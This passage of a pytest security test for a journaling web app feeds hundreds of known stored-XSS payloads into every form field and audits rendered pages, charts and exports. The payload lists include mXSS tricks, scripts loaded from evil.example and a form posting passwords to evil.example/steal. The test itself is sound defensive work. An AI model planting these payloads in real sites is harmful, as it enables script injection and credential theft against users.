"""Stored XSS: known payloads in every field users write, checked everywhere the app shows them.

What this proves, and its figures:

- PAYLOADS: at least 220 distinct known payloads (MIN_PAYLOADS; 304 today), in families:
  script elements and their case/whitespace/NUL tricks, event handlers on every common
  element, javascript:/vbscript:/data: URLs with entity, percent, Unicode and whitespace
  obfuscation (in raw HTML, Markdown links, images, autolinks and reference links), SVG and
  MathML namespace confusion (mXSS), page-level elements (<base>, <meta refresh>, <form
  action>, <iframe srcdoc>, <object>, <embed>), styles (expression(), CSS url()), parser
  differentials (template, noscript, noembed, xmp, ...), comment and CDATA breakouts,
  breakouts of every attribute context the templates fill (value, title, aria-label, alt,
  placeholder, a quick log's href), Markdown-specific constructs (link titles, nested
  brackets, HTML blocks, tables, fenced-code info strings, emphasis around tags) and
  encoding tricks. A test keeps the count and rejects near-duplicates.
- Every String, Text or JSON column of every table is either fed payloads through the
  forms, a fixed choice that refuses them, or never typed by a user (a hash): a column added
  later fails test_every_text_column_is_fed_payloads until this module feeds it.
- Every GET route of `app.url_map` is requested with the ids of the journal built here, so a
  page added later is audited too; each answer is audited by its content type: HTML pages
  (the printable year and summary pages are the same HTML under a print style sheet), SVG
  charts (titles and labels come from goal titles, area names and units), the year-in-review
  Markdown post and its zip, the backup and CSV attachments, and the calendar feed. Flash
  messages are audited on the page that shows them, after every write; so are the forms
  sent back with errors (which echo what was typed) and the restore page's messages (which
  quote the file).
- HTML audit: no script but the app's own, no event handler, no style, no javascript:,
  vbscript: or data: URL, no frame, object, embed, base, meta refresh or foreign form; inside
  user content (class "prose") only the tags Markdown produces, and links with rel
  "noopener noreferrer nofollow". SVG audit: no script, handler, foreignObject, link or
  style URL off the drawing, and the XML still parses. Plain text must be shown, escaped,
  not dropped. The app removes C0 control characters other than tab, LF and CR from form
  input on arrival (`stored()` models it), so every chart parses as XML as it is served, a
  title typed with a form feed included.
- The year-in-review post escapes plain-text fields (titles, area names, units, TL;DR, word
  of the year, status reasons) for Markdown: rendered as a blog would (CommonMark, raw HTML
  on), they make no element or link and show as typed.
- Flash messages travel in the session cookie: the ones after adding, editing, archiving,
  restoring or deleting an area or a goal, or logging progress, quote none of its text.
- Hypothesis: generated Markdown mixing payload fragments with Markdown syntax and
  obfuscated schemes, rendered by render_markdown (XSS_EXAMPLES examples, 200 by default)
  and typed into every rendered field of a small journal through its forms
  (XSS_FIELD_EXAMPLES, 40 by default), each page that shows it audited.

Set XSS_EXAMPLES / XSS_FIELD_EXAMPLES to run more generated examples, and XSS_EVERY_CHART=1 to
audit the chart of every goal (by default a sample of each kind of goal chart: charts are
the slow part). A restored backup is a file, not form input: a goal title holding a control
character is refused there, so no chart is ever drawn from one
(test_a_restored_title_with_a_control_character_keeps_its_chart_well_formed).
"""

from __future__ import annotations

import io
import itertools
import json
import os
import re
import zipfile
from dataclasses import dataclass, field
from html.parser import HTMLParser
from urllib.parse import urlsplit
from xml.etree import ElementTree

import pytest
from helpers import AuthActions, make_app
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from sqlalchemy import JSON, String, Text, select
from werkzeug.exceptions import HTTPException

from journal.areas import PALETTE, area_name, name_key
from journal.checkins.prompts import KINDS as CHECKIN_KINDS
from journal.domain.plans import CADENCES, DIRECTIONS
from journal.domain.plans import KINDS as GOAL_KINDS
from journal.exports.backup import FORMAT as BACKUP_FORMAT
from journal.exports.backup import VERSION as BACKUP_VERSION
from journal.extensions import db
from journal.markdown import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, render_markdown
from journal.models import Area, Attempt, CheckIn, Goal, User

# The app passes SelectField/RadioField choices as tuples, which WTForms 3.3 deprecates.
pytestmark = [
    pytest.mark.filterwarnings(
        "ignore:Passing SelectField choices as tuples is deprecated:DeprecationWarning"),
    # Titles with control characters (a tab; a form feed in a restored backup) are drawn
    # with a missing glyph: matplotlib warns, and the chart is still drawn, and audited.
    pytest.mark.filterwarnings(r"ignore:Glyph \d+ .* missing from font\(s\):UserWarning"),
    pytest.mark.filterwarnings("ignore:constrained_layout not applied:UserWarning"),
]

YEAR = 2026
TODAY = "2026-01-05"
MIN_PAYLOADS = 220
EXAMPLES = int(os.environ.get("XSS_EXAMPLES", "200"))
FIELD_EXAMPLES = int(os.environ.get("XSS_FIELD_EXAMPLES", "40"))
EVERY_CHART = os.environ.get("XSS_EVERY_CHART", "") == "1"

# --- the payloads --------------------------------------------------------------------------

PAYLOAD_FAMILIES: dict[str, list[str]] = {
    "script elements: case, whitespace, NUL and nesting tricks": [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
        "<script>alert(String.fromCharCode(88,83,83))</script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<<script>alert(1)//<</script>",
        "<script>alert(1)",
        "<ScRiPt>alert(1)</sCrIpT>",
        "<script\t>alert(1)</script>",
        "<script\n>alert(1)</script\n>",
        "<script/xss>alert(1)</script>",
        "<script src=//evil.example/x.js></script>",
        "<script type=module>import('https://evil.example/x.js')</script>",
        "</script><script>alert(1)</script>",
        "<scr\x00ipt>alert(1)</scr\x00ipt>",
        "<script\x00>alert(1)</script>",
        "<script>alert(1)</script >",
        "<script>/*</script><script>*/alert(1)</script>",
        "<script>alert(1)<!--",
        "</style><script>alert(1)</script>",
        "<script>eval(atob('YWxlcnQoMSk='))</script>",
        "<script>window['al'+'ert'](1)</script>",
        "<script src=data:,alert(1)></script>",
    ],
    "event handlers on every common element": [
        "<img src=x onerror=alert(1)>",
        "<IMG SRC=\"javascript:alert('XSS');\">",
        '<img src="x" onerror="alert(1)"/>',
        "<img/src=x/onerror=alert(1)>",
        "<img src=x onerror  =  alert(1)>",
        "<img\tsrc=x\tonerror=alert(1)>",
        "<img src=x\nonerror=alert(1)>",
        "<img src=x OnErRoR=alert(1)>",
        "<img src=x onerror=alert(1)",
        "<img src=x onerror\x0c=alert(1)>",
        "<img src=`x` onerror=alert(1)>",
        "<img src=x onerror=&#97;lert(1)>",
        "<img src=x onerror=\\u0061lert(1)>",
        "<img src=1 onerror=alert`1`>",
        "<img src=x:alert(alt) onerror=eval(src) alt=0>",
        '<img """><script>alert(1)</script>">',
        "<image src=x onerror=alert(1)>",
        "<input type=image src=x onerror=alert(1)>",
        "<body onload=alert(1)>",
        "<body onpageshow=alert(1)>",
        "<html onmouseover=alert(1)>",
        "<frameset onload=alert(1)>",
        '<div onmouseover="alert(1)">hover</div>',
        "<div draggable=true ondragstart=alert(1)>drag</div>",
        "<details open ontoggle=alert(1)>",
        "<video><source onerror=alert(1)></video>",
        "<audio src=x onerror=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<select autofocus onfocus=alert(1)>",
        "<textarea autofocus onfocus=alert(1)>",
        "<keygen autofocus onfocus=alert(1)>",
        "<button onclick=alert(1)>b</button>",
        "<form onsubmit=alert(1)><input type=submit></form>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<isindex type=image src=1 onerror=alert(1)>",
        "<x onclick=alert(1)>custom</x>",
        "<iframe onload=alert(1)>",
        "<span onmouseover=alert(1)>s</span>",
        '<a href="https://example.org" onclick="alert(1)">mixed</a>',
        "<a onfocus=alert(1) autofocus href=#x>focus</a>",
        "<p onclick=alert(1)>p</p>",
        "<br onmouseover=alert(1)>",
        "<hr onmouseover=alert(1)>",
        "<h1 onmouseover=alert(1)>h</h1>",
        "<blockquote onmouseenter=alert(1)>q</blockquote>",
        "<ul onclick=alert(1)><li>u</li></ul>",
        "<ol onwheel=alert(1)><li onclick=alert(2)>o</li></ol>",
        "<pre onpointerover=alert(1)>p</pre>",
        "<code tabindex=1 autofocus onfocus=alert(1)>c</code>",
        "<em onauxclick=alert(1)>e</em>",
        "<strong oncopy=alert(1)>b</strong>",
        "<del onmouseleave=alert(1)>d</del>",
        "<s oncontextmenu=alert(1)>s</s>",
        "<table onmouseover=alert(1)><tr><td>t</td></tr></table>",
        "<thead onclick=alert(1)><tr><th onclick=alert(2)>h</th></tr></thead>",
        "<tbody onclick=alert(1)><tr onclick=alert(2)><td onclick=alert(3)>c</td></tr></tbody>",
    ],
    "dangerous URLs in raw HTML: entities, percent, control characters, case": [
        '<a href="javascript:alert(1)">click</a>',
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">d</a>',
        '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">'
        "h</a>",
        '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105'
        '&#0000112&#0000116&#0000058alert(1)">padded</a>',
        '<a href="jav&#x09;ascript:alert(1)">tab</a>',
        '<a href="jav&#x0A;ascript:alert(1)">newline</a>',
        '<a href="jav&#x0D;ascript:alert(1)">carriage return</a>',
        '<a href="java&NewLine;script:alert(1)">named newline</a>',
        '<a href="&#14;javascript:alert(1)">control prefix</a>',
        '<a href="\x01javascript:alert(1)">raw control prefix</a>',
        '<a href=" javascript:alert(1)">space</a>',
        '<a href="javascript&#58;alert(1)">colon entity</a>',
        "<a href='javascript:alert(1)",
        "<a href=javascript:alert(1)>unquoted</a>",
        "<a href=`javascript:alert(1)`>backticks</a>",
        '<a href="JaVaScRiPt:alert(1)">case</a>',
        '<a href="javascript://%0Aalert(1)">comment and newline</a>',
        '<a href="java\u2028script:alert(1)">line separator</a>',
        '<a href="%6A%61%76%61%73%63%72%69%70%74:alert(1)">percent</a>',
        '<a href="vbscript:msgbox(1)">vb</a>',
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">d</a>',
        '<a href="data:text/html,%3Cscript%3Ealert(1)%3C/script%3E">pct data</a>',
        "<a href=https://evil.example/ target=_blank>tabnabbing</a>",
        "<form action=javascript:alert(1)><input type=submit></form>",
        '<video poster="javascript:alert(1)"></video>',
        "<table><a href=javascript:alert(1)>foster-parented link</a></table>",
    ],
    "Markdown links, images, autolinks and reference links": [
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](  javascript:alert(1))",
        '[x](javascript:alert(1) "title")',
        "[x](vbscript:msgbox(1))",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[x](data:image/png;base64,iVBORw0KGgo=)",
        "[x](&#106;avascript:alert(1))",
        "[x](&#x6A;avascript:alert(1))",
        "[x](javascript&colon;alert(1))",
        "[x](javascript&#58;alert(1))",
        "[x](javascript\\:alert(1))",
        "[x](java\tscript:alert(1))",
        "[x](java\nscript:alert(1))",
        "[x](\x0bjavascript:alert(1))",
        "[x](<javascript:alert(1)>)",
        "[x](java\x00script:alert(1))",
        "[x](javascript:alert%281%29)",
        "[x](%6A%61%76%61%73%63%72%69%70%74:alert(1))",
        "[x](file:///etc/passwd)",
        "![x](javascript:alert(1))",
        "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
        "![x](data:image/gif;base64,R0lGODlhAQABAAAAACw=)",
        '![x](https://example.org/x.png "onerror=alert(1)")',
        '![x" onerror="alert(1)](https://example.org/x.png)',
        '![x](https://example.org/x.png"onerror="alert(1))',
        "![<svg onload=alert(1)>](https://example.org/x.png)",
        "![&lt;script&gt;alert(1)&lt;/script&gt;](https://example.org/x.png)",
        "<javascript:alert(1)>",
        "<vbscript:msgbox(1)>",
        "<data:text/html,<script>alert(1)</script>>",
        '<https://example.org/"onmouseover="alert(1)>',
        "www.example.org/<img src=x onerror=alert(1)>",
        "[ref link][evil]\n\n[evil]: javascript:alert(1)",
        '[ref data][evil2]\n\n[evil2]: data:text/html,<script>alert(1)</script> "t"',
        "[shortcut]\n\n[shortcut]: javascript:alert(1)",
        "[angle][a]\n\n[a]: <javascript:alert(1)>",
        "![image ref][img]\n\n[img]: javascript:alert(1)",
        '[title ref][t]\n\n[t]: https://example.org "a\\"><script>alert(1)</script>"',
    ],
    "Markdown link titles and nested brackets": [
        '[x](https://example.org "a\\" onmouseover=\\"alert(1)")',
        "[x](https://example.org 'x\" onclick=\"alert(1)')",
        '[x](https://example.org (t"><script>alert(1)</script>))',
        '[x" onclick="alert(1)](https://example.org)',
        "[<img src=x onerror=alert(1)>](https://example.org)",
        '[x](https://example.org/"onmouseover="alert(1))',
        '[x](<https://example.org/" onmouseover="alert(1)>)',
        "[![<img src=x onerror=alert(1)>](javascript:alert(1))](https://example.org)",
        "[[inner](javascript:alert(1))](https://example.org)",
        "[a](javascript:alert(1)[b](https://example.org))",
        "[x](mailto:a@example.org?body=<script>alert(1)</script>)",
        "[x](https://example.org/?q=<script>alert(1)</script>)",
    ],
    "SVG and MathML namespace confusion (mXSS)": [
        "<svg onload=alert(1)>",
        "<svg/onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><script href=data:,alert(1) /></svg>",
        '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
        '<svg><a href="javascript:alert(1)"><rect width=100 height=100 /></a></svg>',
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><set onbegin=alert(1) attributeName=x to=1>",
        "<svg><discard onbegin=alert(1)>",
        "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) />"
        "<a id=x><text x=20 y=20>X</text></a></svg>",
        "<svg><image href=1 onerror=alert(1)></svg>",
        '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3J'
        'nLzIwMDAvc3ZnJz48aW1hZ2UgaHJlZj0nMScgb25lcnJvcj0nYWxlcnQoMSknLz48L3N2Zz4=#x"/></svg>',
        "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
        '<svg><title><a href="</title><img src onerror=alert(1)>"></svg>',
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style>'
        '<img src onerror=alert(1)>"></style></h1>',
        '<math href="javascript:alert(1)">CLICK</math>',
        '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
        '<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">CLICK'
        "</maction></math>",
    ],
    "page-level elements: base, meta, forms, frames, objects, embeds": [
        '<iframe src="javascript:alert(1)"></iframe>',
        '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
        '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
        '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>',
        '<frameset><frame src="javascript:alert(1)"></frameset>',
        '<object data="javascript:alert(1)"></object>',
        '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
        '<embed src="javascript:alert(1)">',
        '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" type="image/svg+xml">',
        '<embed code="https://evil.example/x.swf" allowscriptaccess=always>',
        '<applet code="javascript:alert(1)"></applet>',
        '<portal src="https://evil.example/"></portal>',
        '<base href="https://evil.example/">',
        '<base href="javascript:alert(1)//">',
        '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
        '<meta http-equiv="refresh" content="0;url=data:text/html;base64,'
        'PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
        "<meta http-equiv=\"Content-Security-Policy\" content=\"script-src 'unsafe-inline'\">",
        '<meta http-equiv="set-cookie" content="session=evil">',
        '<meta charset="UTF-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
        '<link rel=stylesheet href="https://evil.example/x.css">',
        '<link rel=import href="https://evil.example/x.html">',
        '<form action="https://evil.example/steal"><input name=password></form>',
        '<form><button formaction="javascript:alert(1)">go</button></form>',
        "<input name=next value=https://evil.example/ form=logout>",
    ],
    "styles: expression(), CSS url(), bindings, overlays": [
        '<p style="background:url(javascript:alert(1))">styled</p>',
        '<div style="width: expression(alert(1));">x</div>',
        '<div style="xss:ex/**/pression(alert(1))">comment-split</div>',
        '<div style="width:exp\\ression(alert(1))">escaped</div>',
        '<div style="behavior: url(https://evil.example/x.htc)">x</div>',
        '<div style="-moz-binding: url(https://evil.example/x.xml#xss)">x</div>',
        '<p style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</p>',
        "<style>@import 'https://evil.example/x.css';</style>",
        '<style>body{background:url("javascript:alert(1)")}</style>',
        "<style>input[value^=a]{background:url(https://evil.example/a)}</style>",
        '<style>@keyframes x{}</style><b style="animation-name:x" onanimationend="alert(1)">a</b>',
        '<table background="javascript:alert(1)"></table>',
    ],
    "parser differentials: template, noscript, noembed and other raw-text elements": [
        "<template><script>alert(1)</script></template>",
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
        '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>',
        '<noframes><p title="</noframes><img src=x onerror=alert(1)>">',
        '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
        '<iframe><p title="</iframe><img src=x onerror=alert(1)>">',
        '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
        '<title><p title="</title><img src=x onerror=alert(1)>">',
        '<style><p title="</style><img src=x onerror=alert(1)>">',
        "<plaintext><script>alert(1)</script>",
        "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
        '<a title="</a><img src=x onerror=alert(1)>">x</a>',
        "<select><template><img src=x onerror=alert(1)></template></select>",
    ],
    "comment and CDATA breakouts": [
        "<!--<script>alert(1)</script>-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<![CDATA[><img src=x onerror=alert(1)>]]>",
        "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
        '<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>',
        "<!--><img src=x onerror=alert(1)>-->",
        "<!---><img src=x onerror=alert(1)>-->",
        "<!-- --!><img src=x onerror=alert(1)> -->",
        "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
        '<? foo="><script>alert(1)</script>">',
        "--><script>alert(1)</script><!--",
        "]]><script>alert(1)</script><![CDATA[",
    ],
    "attribute breakouts (value, title, aria-label, alt, placeholder, href)": [
        '"><script>alert(1)</script>',
        "'><script>alert(1)</script>",
        '"\'><img src=x onerror=alert(1)>',
        '" autofocus onfocus="alert(1)',
        '" onmouseover="alert(1)" x="',
        "' onmouseover='alert(1)' x='",
        '" style="position:fixed;inset:0" onmouseover="alert(1)',
        '" href="javascript:alert(1)',
        "&quot; onmouseover=&quot;alert(1)",
        "` onmouseover=alert(1)",
        '"/><svg onload=alert(1)>',
        "</title><script>alert(1)</script>",
        "</textarea><script>alert(1)</script>",
        "</button><script>alert(1)</script>",
        "</label><img src=x onerror=alert(1)>",
        "</option></select><img src=x onerror=alert(1)>",
    ],
    "Markdown constructs wrapped around HTML": [
        "`<script>alert(1)</script>`",
        "`` `<script>alert(1)</script>` ``",
        "```\n</code><script>alert(1)</script>\n```",
        '```"><script>alert(1)</script>\ncode\n```',
        "```js onload=alert(1)\ncode\n```",
        "~~~<img src=x onerror=alert(1)>\ncode\n~~~",
        "    <script>alert(1)</script>",
        "> ```\n> <script>alert(1)</script>\n> ```",
        "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
        "| <img src=x onerror=alert(1)> |\n|---|\n| x |",
        "| a |\n|:--|\n| \\| <script>alert(1)</script> \\| |",
        "> <img src=x onerror=alert(1)>",
        "- [x](javascript:alert(1))\n- <svg onload=alert(1)>",
        "1. <script>alert(1)</script>\n   1. [x](javascript:alert(1))",
        "- [ ] <img src=x onerror=alert(1)>",
        "# <script>alert(1)</script>",
        "Setext <script>alert(1)</script>\n===",
        "*<img src=x onerror=alert(1)>*",
        "**<script>alert(1)</script>**",
        "_<svg onload=alert(1)>_",
        "***[x](javascript:alert(1))***",
        "~~<img src=x onerror=alert(1)>~~",
        "<b>*</b>*<img src=x onerror=alert(1)>",
        "<div>\n\n*<img src=x onerror=alert(1)>*\n\n</div>",
        "<table><tr><td>\n\n[x](javascript:alert(1))\n\n</td></tr></table>",
        "<pre>\n<script>alert(1)</script>\n</pre>",
        "\\<script>alert(1)\\</script>",
        "[^1]\n\n[^1]: <script>alert(1)</script>",
        "Term\n: <script>alert(1)</script>",
        "$<script>alert(1)</script>$",
    ],
    "encodings, template syntax and other tricks": [
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
        "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "\u00bcscript\u00bealert(\u00a2XSS\u00a2)\u00bc/script\u00be",
        "\uff1cimg src=x onerror=alert(1)\uff1e",
        "\ufeff<script>alert(1)</script>",
        "<scri\u200bpt>alert(1)</scri\u200bpt>",
        "\u202e>tpircs/<)1(trela>tpircs<",
        "<img src=x on\x00error=alert(1)>",
        "xxxxxxxxxxxxxxxxxxxxxxx<script>alert(1)</script>",
        "x\r\nBEGIN:VEVENT\r\nSUMMARY:<script>alert(1)</script>\r\nEND:VEVENT",
        '=HYPERLINK("javascript:alert(1)","x")',
        "{{ 7*7 }} {% raw %}",
        "{{constructor.constructor('alert(1)')()}}",
        "${alert(1)}",
        "javascript:alert(1)",
    ],
}
PAYLOADS = [payload for family in PAYLOAD_FAMILIES.values() for payload in family]

# What a payload-filled value looks like in the database (to show a column was fed).
PAYLOAD_MARKERS = ("alert", "<", "javascript:", "{{", "&lt;", "&#")

# --- auditing HTML -------------------------------------------------------------------------

DANGEROUS_SCHEMES = ("javascript:", "vbscript:", "data:")
URL_ATTRIBUTES = {
    "href", "src", "action", "formaction", "xlink:href", "data", "poster", "background",
    "lowsrc", "dynsrc", "codebase", "cite", "longdesc", "ping", "srcset", "manifest",
}
NEVER_ALLOWED = {
    "iframe", "frame", "frameset", "object", "embed", "applet", "style", "base", "svg", "math",
    "img", "video", "audio", "source", "portal", "template", "isindex", "marquee",
}
VOID_ELEMENTS = {
    "area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "source",
    "track", "wbr", "param", "keygen", "isindex",
}
PROSE_REL = "noopener noreferrer nofollow"


@dataclass
class Element:
    tag: str
    attrs: list[tuple[str, str | None]]
    in_prose: bool
    text: str = ""  # the text directly inside it, for the elements the tests read

    def get(self, name: str) -> str | None:
        return next((value for key, value in self.attrs if key == name), None)


class PageParser(HTMLParser):
    """Collects every element (and whether it sits in user content) and the page's text."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements: list[Element] = []
        self.texts: list[str] = []
        self.script_texts: list[str] = []
        self.style_texts: list[str] = []
        self.stack: list[tuple[str, bool, Element]] = []  # open elements: tag, in "prose"

    @property
    def in_prose(self) -> bool:
        return any(is_prose for _tag, is_prose, _element in self.stack)

    def _record(self, tag: str, attrs) -> Element:
        element = Element(tag, list(attrs), self.in_prose)
        self.elements.append(element)
        return element

    def handle_starttag(self, tag, attrs):
        element = self._record(tag, attrs)
        if tag not in VOID_ELEMENTS:
            classes = (element.get("class") or "").split()
            self.stack.append((tag, "prose" in classes, element))

    def handle_startendtag(self, tag, attrs):
        self._record(tag, attrs)

    def handle_endtag(self, tag):
        for index in range(len(self.stack) - 1, -1, -1):
            if self.stack[index][0] == tag:
                del self.stack[index:]
                return

    def handle_data(self, data):
        if self.stack:
            tag, _is_prose, element = self.stack[-1]
            element.text += data
            if tag == "script":
                self.script_texts.append(data)
            if tag == "style":
                self.style_texts.append(data)
        self.texts.append(data)

    @property
    def text(self) -> str:
        return "".join(self.texts)


def parse(html: str) -> PageParser:
    parser = PageParser()
    parser.feed(html)
    parser.close()
    return parser


def squeezed(value: str) -> str:
    """A URL as a browser reads its scheme: without whitespace or control characters."""
    return "".join(ch for ch in value if ord(ch) > 0x20 and ord(ch) != 0x7F).lower()


def dangerous_url(value: str | None) -> bool:
    return value is not None and squeezed(value).startswith(DANGEROUS_SCHEMES)


def audit(html: str, is_app_form=lambda action: False) -> list[str]:
    """Everything in `html` a browser could run, load or submit on the attacker's behalf."""
    parser = parse(html)
    problems = [f"inline script: {text!r}" for text in parser.script_texts if text.strip()]
    for element in parser.elements:
        tag, where = element.tag, " in user content" if element.in_prose else ""
        for name, value in element.attrs:
            if name.startswith("on"):
                problems.append(f"<{tag} {name}={value!r}>{where}: an event handler")
            if name in {"style", "srcdoc"}:
                problems.append(f"<{tag} {name}={value!r}>{where}")
            if name in URL_ATTRIBUTES and dangerous_url(value):
                problems.append(f"<{tag} {name}={value!r}>{where}: a dangerous URL")
        if tag in NEVER_ALLOWED and not (is_app_chart(element) and not element.in_prose):
            problems.append(f"<{tag}>{where}")
        if tag == "script" and not (element.get("src") or "").startswith("/static/"):
            problems.append(f"<script src={element.get('src')!r}>{where}")
        if tag == "meta" and element.get("http-equiv") is not None:
            problems.append(f"<meta http-equiv={element.get('http-equiv')!r}>{where}")
        if tag == "link" and not (element.get("href") or "").startswith("/static/"):
            problems.append(f"<link href={element.get('href')!r}>{where}")
        if tag == "form" and (element.in_prose or not is_app_form(element.get("action") or "")):
            problems.append(f"<form action={element.get('action')!r}>{where}: not the app's")
        if tag in {"input", "button"} and element.get("form") is not None:
            problems.append(f"<{tag} form={element.get('form')!r}>{where}: joins another form")
        if element.in_prose:
            problems.extend(audit_user_content(element))
    return problems


APP_CHART = re.compile(r"^/(goals/\d+|years/\d+|summary(/areas/\d+)?)/chart\.svg"
                       r"(\?theme=dark|\?size=narrow|\?theme=dark&size=narrow)?$")


def is_app_chart(element: Element) -> bool:
    """The app's own chart images: an <img src> or <source srcset> of a chart URL."""
    url = element.get("src") if element.tag == "img" else element.get("srcset")
    return element.tag in {"img", "source"} and bool(APP_CHART.match(url or ""))


def audit_user_content(element: Element) -> list[str]:
    """Inside class="prose": only what render_markdown lets through."""
    tag = element.tag
    if tag not in ALLOWED_TAGS:
        return [f"<{tag}> in user content"]
    allowed = ALLOWED_ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set())
    problems = [f"<{tag} {name}> in user content"
                for name, _value in element.attrs if name not in allowed]
    if tag == "a":
        href = squeezed(element.get("href") or "")
        scheme = re.match(r"^([a-z][a-z0-9+.-]*):", href)
        if scheme and scheme.group(1) not in {"http", "https", "mailto"}:
            problems.append(f"<a href={element.get('href')!r}> in user content")
        if element.get("rel") != PROSE_REL:
            problems.append(f"<a rel={element.get('rel')!r}> in user content")
    return problems


def app_form_checker(app):
    """True for a form action that is one of the app's own POST endpoints."""
    adapter = app.url_map.bind("localhost")

    def is_app_form(action: str) -> bool:
        if not action.startswith("/") or action.startswith("//"):
            return False
        try:
            adapter.match(action.split("?", 1)[0], method="POST")
        except HTTPException:
            return False
        return True

    return is_app_form


# --- auditing the other things the app writes -----------------------------------------------

# An SVG served at its own URL runs its scripts when opened, so a chart may hold no script,
# handler, foreign HTML or link; its references point inside the drawing ("#...") only.
SVG_FORBIDDEN = {"script", "foreignobject", "a", "iframe", "object", "embed", "image", "animate",
                 "set", "handler", "discard"}
CSS_DANGER = re.compile(r"url\((?!\s*['\"]?#)|expression|@import|javascript:|behavior|binding")


def css_problem(css: str) -> bool:
    return bool(CSS_DANGER.search(re.sub(r"\s|/\*.*?\*/", "", css.lower())))


def audit_svg(svg: str) -> list[str]:
    """Everything in a chart that could run, load or link on the attacker's behalf, and a
    chart that is not well-formed XML (browsers then show none): an escape that broke, or a
    C0 control character, which XML 1.0 forbids even escaped. The app removes those from
    form input on arrival, so a chart parses as it is served."""
    problems = []
    try:
        # The app's own chart, drawn in this test: not untrusted XML from elsewhere.
        ElementTree.fromstring(svg.encode("utf-8"))  # noqa: S314
    except ElementTree.ParseError as error:
        problems.append(f"not well-formed XML (an escape broke?): {error}")
    parser = parse(svg)
    problems += [f"<style> {text!r}" for text in parser.style_texts if css_problem(text)]
    for element in parser.elements:
        if element.tag in SVG_FORBIDDEN:
            problems.append(f"<{element.tag}> in a chart")
        for name, value in element.attrs:
            if name.startswith("on"):
                problems.append(f"<{element.tag} {name}={value!r}> in a chart")
            if name in URL_ATTRIBUTES and not (value or "").startswith("#"):
                problems.append(f"<{element.tag} {name}={value!r}>: a link out of the chart")
            if name == "style" and css_problem(value or ""):
                problems.append(f"<{element.tag} style={value!r}> in a chart")
    return problems


CALENDAR_LINE = re.compile(r"([A-Z][A-Z0-9-]*)((?:;[A-Z0-9-]+=[^;:\r\n]*)*):(.*)")
CALENDAR_TEXT = {"SUMMARY", "DESCRIPTION", "LOCATION", "COMMENT", "X-WR-CALNAME", "X-WR-CALDESC"}


def audit_calendar(text: str) -> list[str]:
    """An iCalendar document a calendar app reads as the app meant: CRLF lines of at most
    75 octets, each a property, TEXT values with ; , and newlines escaped (RFC 5545 3.3.11),
    components nested as opened, and no journal text or markup."""
    if not text.endswith("\r\n"):
        return ["does not end with CRLF"]
    problems, open_components, summaries = [], [], 0
    for number, line in enumerate(text[:-2].split("\r\n"), start=1):
        if "\r" in line or "\n" in line:
            problems.append(f"line {number}: a bare line break {line!r}")
        if len(line.encode("utf-8")) > 75:
            problems.append(f"line {number}: longer than 75 octets and not folded")
        match = CALENDAR_LINE.fullmatch(line)
        if not match:
            problems.append(f"line {number}: not a content line: {line!r}")
            continue
        name, value = match.group(1), match.group(3)
